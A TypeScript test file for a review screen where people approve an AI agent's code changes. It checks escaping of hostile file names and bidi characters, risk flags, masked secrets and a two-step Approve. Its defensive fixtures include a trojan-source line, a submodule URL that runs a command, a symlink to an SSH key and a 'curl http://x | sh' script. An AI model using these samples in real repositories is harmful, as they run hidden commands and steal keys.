// The review screen in jsdom: it shows everything it approves, escaped, and
// makes Approve a deliberate second step when something is unseen.
import { cleanup, fireEvent, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { FactoryError } from '../../common/errors.js';
import type { DiffFile } from '../../common/review.js';
import { installScrollTo, openReview, review, reviewTask, rowsOf, scrollBox } from './support/review-harness.js';

// jsdom lacks canvas, which xterm.js probes on import; answer as a browser without WebGL would.
vi.hoisted(() => {
  HTMLCanvasElement.prototype.getContext = (() => null) as unknown as HTMLCanvasElement['getContext'];
});

afterEach(cleanup);
beforeAll(installScrollTo);

/** Characters that must never reach the page as themselves: bidi controls, invisibles, C0/C1 controls but tab. */
const RAW_HIDDEN = /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u0000-\u0008\u000a-\u001f\u007f-\u009f]/u;

function manyLines(n: number): string {
  const lines = ['diff --git a/big.txt b/big.txt', '--- a/big.txt', '+++ b/big.txt', `@@ -0,0 +1,${n} @@`];
  for (let i = 0; i < n; i++) lines.push(`+${i}`);
  return lines.join('\n') + '\n';
}

describe('review screen', () => {
  it('lists all 200,000 changed files and counts the ones not listed, drawing only a screenful', async () => {
    const files: DiffFile[] = Array.from({ length: 200_000 }, (_, i) => ({ path: `gen/f${i}.txt`, status: 'added', added: 1, removed: 0, binary: false }));
    files.push({ path: 'src/auth.ts', status: 'modified', added: 1, removed: 1, binary: false });
    await openReview({ 'tasks.review': () => review({ files, filesOmitted: 7, added: 200_001, removed: 1, patch: '' }) });
    expect(screen.getByTestId('review-summary').textContent).toContain('200,008 files');
    expect(screen.getByTestId('review-files-omitted').textContent).toContain('7 more changed files are not listed');
    const list = screen.getByTestId('review-files');
    expect(list.dataset.rows).toBe('200001');
    expect(rowsOf(list).length).toBeLessThan(80);
    // The one-line change to an existing file, listed last, is reachable by scrolling.
    scrollBox(list, 200_000 * 26);
    await waitFor(() => expect(screen.getAllByTestId('review-file').map((r) => r.dataset.path)).toContain('src/auth.ts'));
    expect(rowsOf(list).length).toBeLessThan(80);
  });

  it('draws a 700,000-line patch a screenful at a time, and scrolling draws the lines scrolled to', async () => {
    const patch = manyLines(700_000);
    await openReview({ 'tasks.review': () => review({ files: [{ path: 'big.txt', status: 'added', added: 700_000, removed: 0, binary: false }], patch }) });
    const box = screen.getByTestId('review-patch');
    expect(box.dataset.rows).toBe('700004');
    expect(rowsOf(box).length).toBeLessThan(100);
    expect(rowsOf(box)[0]!.textContent).toBe('diff --git a/big.txt b/big.txt');
    scrollBox(box, 500_000 * 18);
    await waitFor(() => expect(rowsOf(box).map((r) => r.textContent)).toContain('+499996'));
    expect(rowsOf(box).length).toBeLessThan(100);
    expect(screen.getByTestId('review-patch-size').textContent).toBe('700,004 patch lines');
  });

  it('shows hostile file names escaped: control characters, U+202E, a newline, a trailing space', async () => {
    const names = ['evil\x1b[31mred.txt', 'invoice\u202etxt.exe', 'two\nlines.txt', 'trailing.txt ', 'zero\u200bwidth.ts'];
    const shown = ['evil\\x1b[31mred.txt', 'invoice\\u{202e}txt.exe', 'two\\nlines.txt', 'trailing.txt\\x20', 'zero\\u{200b}width.ts'];
    const files = names.map((path): DiffFile => ({ path, status: 'added', added: 1, removed: 0, binary: false }));
    await openReview({
      'tasks.review': () =>
        review({
          files,
          patch: '',
          flags: names.map((path) => ({ kind: 'unsafe-name' as const, severity: 'warning' as const, path, message: 'the name holds characters shown escaped' })),
          secrets: [{ path: 'invoice\u202etxt.exe', line: 3, rule: 'aws-access-key', masked: 'AKIA\u202e************' }],
        }),
      'tasks.reviewFile': ({ path }: { path: string }) => ({ path, size: 4, patch: '', patchTruncated: false, leadingBytes: 'abc' }),
    });
    const rows = screen.getAllByTestId('review-file');
    expect(rows.map((r) => r.dataset.path)).toEqual(shown);
    rows.forEach((r, i) => expect(r.querySelector('.file-name')!.textContent).toBe(shown[i]));
    expect(screen.getAllByTestId('review-flag').map((f) => f.querySelector('.flag-where')!.textContent)).toEqual(shown);
    expect(screen.getByTestId('review-secret').textContent).toContain('invoice\\u{202e}txt.exe:3');
    expect(screen.getByTestId('review-secret').textContent).toContain('AKIA\\u{202e}****');
    fireEvent.click(rows[1]!.querySelector('[data-testid="review-file-load"]')!);
    expect((await screen.findByTestId('review-file-detail')).textContent).toContain('invoice\\u{202e}txt.exe');
    expect(document.body.textContent).not.toMatch(RAW_HIDDEN);
  });

  it('marks content lines with hidden characters and draws them as escapes, unlike a literal backslash', async () => {
    const trojan = '+    if (isAdmin) { \u202e } \u2066// Check if admin\u2069 \u2066 begin admins only';
    const patch = [
      'diff --git a/auth.js b/auth.js', '--- a/auth.js', '+++ b/auth.js', '@@ -1 +1,3 @@',
      trojan, '+const s = "\\u{202e} is just text";', '+plain\r',
    ].join('\n');
    await openReview({ 'tasks.review': () => review({ files: [{ path: 'auth.js', status: 'modified', added: 3, removed: 0, binary: false }], patch }) });
    const box = screen.getByTestId('review-patch');
    const [marked, literal, crlf] = rowsOf(box).slice(4);
    expect(marked!.classList).toContain('has-hidden');
    expect(marked!.querySelector('.gutter')!.textContent).toBe('hidden');
    expect(marked!.dataset.hidden).toBe('U+202E (bidi), U+2066 (bidi), U+2069 (bidi), U+2066 (bidi)');
    expect([...marked!.querySelectorAll('.esc')].map((e) => e.textContent)).toEqual(['\\u{202e}', '\\u{2066}', '\\u{2069}', '\\u{2066}']);
    expect(literal!.classList).not.toContain('has-hidden');
    expect(literal!.querySelector('.esc')).toBeNull();
    expect(literal!.querySelector('.text')!.textContent).toBe('+const s = "\\u{202e} is just text";');
    // A final CR (a CRLF file) is shown, but is not a hidden character.
    expect(crlf!.classList).not.toContain('has-hidden');
    expect(crlf!.querySelector('.esc')!.textContent).toBe('\\r');
    expect(box.textContent).not.toMatch(RAW_HIDDEN);
  });

  it('shows the flags above the diff, danger first, with the severity in words, and each secret with file, line and masked value', async () => {
    await openReview({
      'tasks.review': () =>
        review({
          flags: [
            { kind: 'exec-bit', severity: 'warning', path: 'run.sh', message: 'run.sh became executable' },
            { kind: 'symlink', severity: 'danger', path: 'link', message: 'link points outside the repository: ../../.ssh/id_ed25519' },
            { kind: 'runs-code', severity: 'warning', path: '.github/workflows/ci.yml', message: 'CI runs this on push' },
            { kind: 'submodule', severity: 'danger', path: '.gitmodules', message: 'submodule url ext::sh -c touch% /tmp/pwned (ext:: runs a command)' },
          ],
          secrets: [{ path: 'config/prod.env', line: 12, rule: 'anthropic-api-key', masked: 'ANTHROPIC_API_KEY=sk-ant-a************' }],
        }),
    });
    const flags = screen.getAllByTestId('review-flag');
    expect(flags.map((f) => [f.dataset.severity, f.dataset.kind])).toEqual([
      ['danger', 'symlink'], ['danger', 'submodule'], ['warning', 'exec-bit'], ['warning', 'runs-code'],
    ]);
    expect(flags[0]!.textContent).toBe('DANGER symlink link link points outside the repository: ../../.ssh/id_ed25519');
    expect(flags[2]!.textContent).toContain('WARNING exec-bit run.sh');
    expect(screen.getByTestId('review-flags-summary').textContent).toBe('4 flags: 2 danger, 2 warning');
    const secret = screen.getByTestId('review-secret');
    expect(secret.textContent).toBe('SECRET config/prod.env:12 anthropic-api-key ANTHROPIC_API_KEY=sk-ant-a************');
    const flagsBox = screen.getByTestId('review-flags');
    expect(flagsBox.compareDocumentPosition(screen.getByTestId('review-files')) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    expect(flagsBox.compareDocumentPosition(screen.getByTestId('review-patch')) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
  });

  it('shows a file it cannot show as text with its reason and size, and its leading bytes on request', async () => {
    const { bridge } = await openReview({
      'tasks.review': () =>
        review({
          files: [{ path: 'tools/setup', status: 'added', added: 0, removed: 0, binary: true, notText: 'nul-byte', size: 2048, newMode: 'executable', oldMode: 'none' }],
          patch: 'diff --git a/tools/setup b/tools/setup\nnew file mode 100755\nBinary files /dev/null and b/tools/setup differ\n',
        }),
      'tasks.reviewFile': ({ path }: { path: string }) => ({
        path, size: 2048, patch: 'Binary files /dev/null and b/tools/setup differ', patchTruncated: false,
        leadingBytes: '#!/bin/sh\\ncurl http://x | sh\\n\\x00\\x00',
      }),
    });
    const row = screen.getByTestId('review-file');
    expect(row.querySelector('[data-testid="review-file-nottext"]')!.textContent).toBe('not shown as text: has NUL bytes, 2.0 KiB (2,048 bytes)');
    expect(row.textContent).toContain('new executable');
    expect(row.textContent).not.toContain('+0');
    expect(bridge.inputs('tasks.reviewFile')).toEqual([]);
    fireEvent.click(row.querySelector('[data-testid="review-file-bytes"]')!);
    const bytes = await screen.findByTestId('review-file-leading-bytes');
    expect(bytes.tagName).toBe('PRE');
    expect(bytes.textContent).toBe('#!/bin/sh\\ncurl http://x | sh\\n\\x00\\x00');
    expect(bridge.inputs('tasks.reviewFile')).toEqual([{ taskId: 't1', path: 'tools/setup' }]);
  });

  it("gives a file the cut patch does not hold its own patch on request, and jumps to a file's place in the patch", async () => {
    const patch = manyLines(300_000).replace(/\n$/, '') + '\ndiff --git a/src/auth.ts b/src/auth.ts\n--- a/src/auth.ts\n+++ b/src/auth.ts\n@@ -1 +1 @@\n-a\n+b\n';
    const { bridge } = await openReview({
      'tasks.review': () =>
        review({
          files: [
            { path: 'big.txt', status: 'added', added: 300_000, removed: 0, binary: false },
            { path: 'src/auth.ts', status: 'modified', added: 1, removed: 1, binary: false },
            { path: 'src/late.ts', status: 'modified', added: 1, removed: 1, binary: false },
          ],
          patch, patchTruncated: true,
          confirmations: [{ kind: 'unshown', message: 'the patch of 1 file was not shown (over the 2 MiB cap): src/late.ts' }],
        }),
      'tasks.reviewFile': ({ path }: { path: string }) => ({
        path, size: 10, patch: `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old late\n+new late\n`, patchTruncated: false, leadingBytes: '',
      }),
    });
    const [big, auth, late] = screen.getAllByTestId('review-file');
    expect(big!.querySelector('[data-testid="review-file-unshown"]')).toBeNull();
    expect(late!.querySelector('[data-testid="review-file-unshown"]')!.textContent).toBe('not in the patch below');
    // The cut fell in the last file the patch has: its header is there, the rest may not be.
    expect(big!.querySelector('[data-testid="review-file-cut"]')).toBeNull();
    expect(auth!.querySelector('[data-testid="review-file-cut"]')!.textContent).toBe('its patch is cut off below');
    expect(screen.getByTestId('review-patch-truncated').textContent).toContain('2 files are not in it, or not all of it');

    fireEvent.click(auth!.querySelector('[data-testid="review-file-goto"]')!);
    await waitFor(() => expect(rowsOf(screen.getByTestId('review-patch')).map((r) => r.textContent)).toContain('diff --git a/src/auth.ts b/src/auth.ts'));

    fireEvent.click(late!.querySelector('[data-testid="review-file-load"]')!);
    const own = await screen.findByTestId('review-file-patch');
    expect(own.textContent).toContain('+new late');
    expect(bridge.inputs('tasks.reviewFile')).toEqual([{ taskId: 't1', path: 'src/late.ts' }]);
  });

  it('makes Approve a second step naming what was not shown, sends exactly those kinds, and Cancel goes back', async () => {
    const { bridge } = await openReview({
      'tasks.review': () =>
        review({
          secrets: [{ path: '.env', line: 1, rule: 'generic-api-key', masked: 'KEY=abcd********' }],
          confirmations: [
            { kind: 'unshown', message: 'the patch of 2 files was not shown (over the 2 MiB cap): a.txt, b.txt' },
            { kind: 'secrets', message: '1 possible secret: .env:1 (generic-api-key)' },
          ],
        }),
    });
    expect(screen.getByTestId('approve-button').textContent).toBe('Approve…');
    fireEvent.click(screen.getByTestId('approve-button'));
    const panel = await screen.findByTestId('approve-confirm');
    expect(screen.getAllByTestId('approve-confirmation').map((c) => [c.dataset.kind, c.textContent])).toEqual([
      ['unshown', 'Not shown: the patch of 2 files was not shown (over the 2 MiB cap): a.txt, b.txt'],
      ['secrets', 'Possible secrets: 1 possible secret: .env:1 (generic-api-key)'],
    ]);
    expect(panel.textContent).toContain('Approve without seeing these');
    expect(screen.queryByTestId('approve-button')).toBeNull();
    expect(bridge.inputs('tasks.approve')).toEqual([]);

    fireEvent.click(screen.getByTestId('approve-cancel-button'));
    expect(screen.queryByTestId('approve-confirm')).toBeNull();
    expect(bridge.inputs('tasks.approve')).toEqual([]);

    fireEvent.click(screen.getByTestId('approve-button'));
    fireEvent.click(await screen.findByTestId('approve-confirmed-button'));
    expect((await screen.findByTestId('decision')).dataset.kind).toBe('approved');
    expect(bridge.inputs('tasks.approve')).toEqual([{ taskId: 't1', confirm: ['unshown', 'secrets'] }]);
  });

  it('makes Approve a second step when the patch was cut or secrets were found, even if the host listed no confirmation', async () => {
    const { bridge } = await openReview({
      'tasks.review': () =>
        review({
          files: [{ path: 'hello.txt', status: 'modified', added: 1, removed: 1, binary: false }, { path: 'cut.txt', status: 'added', added: 1, removed: 0, binary: false }],
          patchTruncated: true, filesOmitted: 2,
          secrets: [{ path: 'k.pem', line: 1, rule: 'private-key', masked: '-----BEGIN PRIVATE KEY----- ****' }],
        }),
    });
    fireEvent.click(screen.getByTestId('approve-button'));
    const items = (await screen.findAllByTestId('approve-confirmation')).map((c) => c.textContent);
    expect(items).toEqual([
      'Not shown: the patch was cut at its size limit; not in it, or not all of it: 2 files (hello.txt, cut.txt); 2 changed files were not listed at all',
      'Possible secrets: 1 possible secret in the returned work: k.pem:1',
    ]);
    fireEvent.click(screen.getByTestId('approve-confirmed-button'));
    await waitFor(() => expect(bridge.inputs('tasks.approve')).toEqual([{ taskId: 't1', confirm: ['unshown', 'secrets'] }]));
  });

  it('shows an ApproveNeedsConfirmation refusal, loads the review again and loses nothing', async () => {
    let reviews = 0;
    let approves = 0;
    const { bridge } = await openReview({
      'tasks.review': () =>
        ++reviews === 1 ? review() : review({ confirmations: [{ kind: 'secrets', message: '1 possible secret: notes.md:4 (slack-token)' }] }),
      'tasks.approve': (input: { confirm?: string[] }) => {
        if (++approves === 1 || !input.confirm?.includes('secrets')) {
          throw new FactoryError('ApproveNeedsConfirmation', 'the review lists secrets: confirm them to approve');
        }
        return reviewTask({ phase: 'approved', decision: { kind: 'approved', at: 'now', branch: 'factory/t1' } });
      },
    });
    fireEvent.click(screen.getByTestId('approve-button'));
    expect((await screen.findByTestId('approve-needs-confirmation')).textContent).toContain('the review lists secrets: confirm them to approve');
    expect((await screen.findByTestId('action-error-name')).textContent).toBe('ApproveNeedsConfirmation');
    await waitFor(() => expect(screen.getByTestId('approve-button').textContent).toBe('Approve…'));
    expect(screen.getByTestId('review-summary').textContent).toContain('1 file');
    fireEvent.click(screen.getByTestId('approve-button'));
    expect((await screen.findByTestId('approve-confirmation')).textContent).toContain('notes.md:4');
    fireEvent.click(screen.getByTestId('approve-confirmed-button'));
    await waitFor(() => expect(bridge.inputs('tasks.approve')).toEqual([{ taskId: 't1' }, { taskId: 't1', confirm: ['secrets'] }]));
  });

  it("says Approve lands one commit with the tree shown, and lists the agent's commits escaped, merges and cuts said", async () => {
    const history = {
      total: 203, merges: 1, maxCommits: 3, maxMessageChars: 4000, maxScanBytes: 64 * 1024,
      commits: [
        { id: 'c'.repeat(40), parents: 2, author: 'Agent <agent@factory.invalid>', message: 'merge the side\n', messageCut: false, scannedInPart: false },
        { id: 'd'.repeat(40), parents: 1, author: 'Evil\u202e <x@y>', message: 'add config\n\nuse token ghp_abc\u200b for the release\n', messageCut: false, scannedInPart: false },
        { id: 'e'.repeat(40), parents: 1, author: 'Agent <a@b>', message: 'x'.repeat(4000), messageCut: true, scannedInPart: true },
      ],
    };
    await openReview({
      'tasks.review': () =>
        review({ history, secrets: [{ path: `message of commit ${'d'.repeat(40)}`, line: 3, rule: 'secretlint/github:GITHUB_TOKEN', masked: 'ghp_******', commit: 'd'.repeat(40) }] }),
    });
    expect(screen.getByTestId('review-lands').textContent).toBe(
      "Approve lands one commit with the final tree shown here, on the task's base; the agent's 203 commits are not kept, nor their messages. " +
        '1 of them is a merge: harmless here, since only the final tree lands (what a merge brought in is in the diff) and no other parent enters your repository.',
    );
    expect(screen.getByTestId('review-commits-summary').textContent).toBe("The agent's commits, newest first: the first 3 of 203");
    const rows = screen.getAllByTestId('review-commit');
    expect(rows.map((r) => r.dataset.merge)).toEqual(['true', 'false', 'false']);
    expect(rows[0]!.textContent).toContain('cccccccccccc merge of 2 parents Agent <agent@factory.invalid>');
    const messages = screen.getAllByTestId('review-commit-message').map((m) => m.textContent!);
    expect(messages[1]).toBe('add config\n\nuse token ghp_abc\\u{200b} for the release');
    expect(rows[1]!.textContent).toContain('Evil\\u{202e} <x@y>');
    for (const line of messages[1]!.split('\n')) expect(line).not.toMatch(RAW_HIDDEN);
    expect(screen.getByTestId('review-commit-cut').textContent).toBe(
      'The message is longer: only its first 4,000 characters are shown. Only its first 64.0 KiB (65,536 bytes) were scanned for secrets.',
    );
    expect(screen.getByTestId('review-commits-omitted').textContent).toBe(
      '200 older commits are not listed (the list stops at 3), and their messages were not scanned for secrets. None of them lands.',
    );
    expect(screen.getByTestId('review-secret').textContent).toContain(`message of commit ${'d'.repeat(40)}:3`);
  });

  it('says Approve lands one commit for a review saved before the agent commits were listed', async () => {
    await openReview({ 'tasks.review': () => review() });
    expect(screen.getByTestId('review-lands').textContent).toBe(
      "Approve lands one commit with the final tree shown here, on the task's base; the agent's own commits are not kept, nor their messages.",
    );
    expect(screen.queryByTestId('review-commits')).toBeNull();
  });
});
